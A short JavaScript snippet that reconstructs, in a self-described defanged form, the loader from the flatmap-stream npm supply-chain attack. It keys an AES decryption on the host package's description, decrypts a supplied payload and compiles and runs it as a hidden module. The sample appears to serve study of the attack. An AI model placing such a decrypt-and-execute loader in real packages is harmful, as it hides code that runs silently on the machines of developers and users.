// defanged shape of the flatmap-stream loader: the ciphertext is junk
module.exports = function (payload) {
  var crypto = require('crypto');
  var key = process.env.npm_package_description;
  if (!key) return;
  var decipher = crypto.createDecipher('aes256', key);
  var src = decipher.update(payload, 'hex', 'utf8');
  src += decipher.final('utf8');
  var m = new module.constructor();
  m.paths = module.paths;
  m._compile(src, '');
  return m.exports;
};
